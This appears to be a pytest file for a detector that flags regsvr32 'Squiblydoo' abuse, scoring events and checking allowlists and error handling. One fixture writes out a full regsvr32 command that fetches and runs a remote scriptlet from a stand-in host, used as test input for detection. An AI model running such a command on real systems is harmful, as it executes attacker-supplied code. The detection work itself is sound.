"""Verdicts: score, severity, reasons, ATT&CK ids, allowlisted findings and errors."""
import pytest

from regsvr32_detector import OUTPUT_FIELDS, OUTPUTS, RULES_BY_ID, Detector, load_allowlists
from support.events import proc, with_other_identity

from support.allowlists import HEADER, allowlist_row

pytestmark = pytest.mark.pure

STORED_FIELDS = [o.name for o in OUTPUTS if o.derive is None]
SQUIBLYDOO = proc("regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll")


def test_verdict_names_the_evidence():
    v = Detector().evaluate(SQUIBLYDOO)
    assert "R32-001: scriptlet fetched from http://203.0.113.9/pay.sct via /i: and scrobj.dll" in v.reasons
    top = max(RULES_BY_ID[r].risk for r in v.rules)
    assert v.score > top and v.severity == "critical"        # a scriptlet AND a remote payload
    assert any(r.startswith("raised: %d -> %d" % (top, v.score)) for r in v.reasons), v.reasons
    assert v.mitre == tuple(sorted(set(t for r in v.rules for t in RULES_BY_ID[r].techniques)))
    assert list(v.rules) == sorted(v.rules)


def test_fields_are_the_output_contract():
    f = Detector().evaluate(SQUIBLYDOO).fields()
    assert tuple(f) == OUTPUT_FIELDS
    assert f["regsvr32_score"] == "100" and f["regsvr32_error"] == ""
    assert all(isinstance(f[k], list) for k in ("regsvr32_rules", "regsvr32_reasons", "regsvr32_mitre",
                                                 "regsvr32_allowlisted"))


def test_ordinary_row_scores_zero_with_every_field():
    f = Detector().evaluate({"process_name": "notepad.exe", "process": "notepad"}).fields()
    assert set(f) == set(OUTPUT_FIELDS)
    assert dict((k, f[k]) for k in STORED_FIELDS) == {"regsvr32_score": "0", "regsvr32_severity": "none", "regsvr32_rules": [],
                 "regsvr32_reasons": [], "regsvr32_mitre": [], "regsvr32_allowlisted": [], "regsvr32_error": "",
                 "regsvr32_signature": ""}


def test_allowlisted_finding_is_kept_and_explained(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text(HEADER + allowlist_row(rule_id="*", url_host="203.0.113.9", reason="red team range",
                                           source="SEC-1"))
    allowlist, _ = load_allowlists([str(path)])
    v = Detector(allowlist).evaluate(SQUIBLYDOO)
    assert "R32-002" not in v.rules and "R32-002 allowlisted: red team range (a.csv:2)" in v.allowlisted
    assert v.score < Detector().evaluate(SQUIBLYDOO).score or v.score == 0


class Exploding(dict):
    """A mapping that fails however it is read."""

    def items(self):
        raise RuntimeError("boom")

    __iter__ = keys = items


@pytest.mark.parametrize("record", [
    None, [], 42, "regsvr32", {"Image": None}, {"Image": 7, "CommandLine": b"regsvr32"},
    {"Image": ["regsvr32.exe", None]}, {"CommandLine": "regsvr32 " + "\x00" * 10}, Exploding(),
], ids=["none", "list", "int", "str", "none-value", "odd-types", "mv-none", "nul", "raises"])
def test_evaluate_never_raises(record):
    v = Detector().evaluate(record)
    assert 0 <= v.score <= 100
    assert set(v.fields()) == set(OUTPUT_FIELDS)


def test_an_unevaluable_row_says_why():
    v = Detector().evaluate(Exploding())
    assert v.score == 0 and v.error.startswith("could not evaluate this event (RuntimeError: boom)")


# --- The verdict memo: a verdict is remembered under what the event did, not who ran it ------

def _every_example_and_sample():
    from regsvr32_detector import RULES
    from support.samples import SAMPLES
    for r in RULES:
        for e in r.positives + r.negatives:
            yield e
    for s in SAMPLES:
        yield dict((k, v) for k, v in s.items() if k != "sample_id")


def test_identity_values_never_change_a_verdict():
    # What makes the remembered verdict right: no check reads them (a fresh detector each time).
    checked = 0
    for record in _every_example_and_sample():
        want = Detector().evaluate(record).fields()
        for n in (1, 2):
            assert Detector().evaluate(with_other_identity(record, n)).fields() == want, record
        checked += 1
    assert checked > 150


def test_a_remembered_verdict_is_the_verdict_of_the_event():
    # One detector over the examples three times (a verdict is kept from the second sighting of
    # a command line), each time with other ids: every verdict as fresh.
    det = Detector()
    for n in (1, 2, 3):
        for record in _every_example_and_sample():
            record = with_other_identity(record, n)
            assert det.evaluate(record).fields() == Detector().evaluate(record).fields(), record


@pytest.mark.parametrize("column,event", [
    ("host", {"Computer": "WS7"}), ("user", {"User": "CORP\\svc_deploy"})])
def test_user_and_host_count_once_an_allowlist_row_names_them(tmp_path, column, event):
    path = tmp_path / "a.csv"
    path.write_text(HEADER + allowlist_row(rule_id="*", reason="lab", **{column: list(event.values())[0]}))
    det = Detector(load_allowlists([str(path)])[0])
    here, elsewhere = dict(SQUIBLYDOO, **event), dict(SQUIBLYDOO, Computer="WS8", User="CORP\\bob")
    assert det.evaluate(here).score == 0 and det.evaluate(here).allowlisted
    assert det.evaluate(elsewhere).score == 100 and not det.evaluate(elsewhere).allowlisted
    assert det.evaluate(here).score == 0                  # and back: nothing leaks between them
